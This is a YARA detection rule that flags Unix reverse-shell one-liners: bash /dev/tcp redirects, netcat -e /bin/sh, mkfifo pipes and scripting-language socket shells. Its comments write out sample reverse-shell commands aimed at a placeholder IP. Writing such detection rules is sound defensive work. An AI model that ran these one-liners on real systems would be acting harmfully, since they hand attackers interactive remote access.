/*
 * reverse_shell.yar - Unix reverse-shell one-liners
 *
 * What:  the well-known reverse-shell idioms found in droppers, cron entries,
 *        web-exploit payloads and post-exploitation scripts:
 *          - bash/sh -i >& /dev/tcp/HOST/PORT 0>&1 (and 5<> / 0<& variants)
 *          - nc/ncat -e /bin/sh, and the mkfifo + nc pipe variant
 *          - python/perl/php/ruby socket + dup2/exec "/bin/sh -i" variants
 * Why:   a reverse shell means interactive attacker access.
 * FPs:   the bash manual documents the /dev/tcp pseudo-device, but never in
 *        combination with an interactive shell redirect; netcat man pages
 *        document "-e" but not "-e /bin/sh" in the same token sequence. Pentest
 *        cheat-sheets and security training material will (correctly) match.
 *        The scripting-language variants need 3-4 co-occurring fragments.
 *        "high".
 */

rule Vigil_Shell_ReverseShell
{
    meta:
        id          = "VG-0015"
        description = "Reverse-shell one-liner (bash /dev/tcp, nc -e, mkfifo|nc, python/perl/php socket + /bin/sh -i)"
        severity    = "high"
        category    = "reverse-shell"
        author      = "vigil project"
        date        = "2026-11-29"

    strings:
        // bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 ; sh -i 5<> /dev/tcp/...
        // (a bare "exec 3<>/dev/tcp/host/80" is a legit bash HTTP idiom: not matched)
        $dev1 = /sh[ \t]{1,4}-i[ \t]{0,4}[0-9]{0,3}[<>&]{1,3}[ \t]{0,4}\/dev\/(tcp|udp)\// nocase
        // exec 5<>/dev/tcp/h/p; cat <&5 | while read line; do $line 2>&5 >&5; done
        $dev2 = /\/dev\/tcp\/[^\r\n]{1,120}while[ \t]{1,4}read[ \t]{1,4}line[^\r\n]{1,60}\$line[ \t]{1,4}2>&[0-9]/

        $nc1  = /(nc|ncat|netcat|nc\.traditional)[ \t]{1,4}[^\r\n;|]{0,60}-e[ \t]{1,4}\/bin\/(ba|z|da)?sh/
        $nc2  = /(nc|ncat|netcat)[ \t]{1,4}[^\r\n;|]{0,60}-c[ \t]{1,4}['"]?\/bin\/(ba|z|da)?sh/

        $fifo = /mkfifo[ \t]{1,4}\/tmp\/[^\r\n]{0,80}\/bin\/(ba)?sh[ \t]{1,4}-i[^\r\n]{0,80}\|[ \t]{0,4}(nc|ncat|openssl)[ \t]/

        // scripting-language socket shells
        $ish1 = "/bin/sh -i" nocase
        $ish2 = "/bin/bash -i" nocase
        $ish3 = "[\"/bin/sh\",\"-i\"]"
        $ish4 = "pty.spawn(" nocase
        $py1  = "socket.socket(" nocase
        $py2  = "os.dup2(" nocase
        $py3  = ".connect((" nocase
        $pl1  = "use Socket" nocase
        $pl2  = "open(STDIN,\">&S\")" nocase
        $php1 = "fsockopen(" nocase

    condition:
        filesize < 5MB and
        (
            any of ($dev*) or
            any of ($nc*) or
            $fifo or
            (all of ($py*) and any of ($ish*)) or
            ($pl1 and $pl2 and any of ($ish*)) or
            ($php1 and ($ish1 or $ish2) and filesize < 64KB)
        )
}
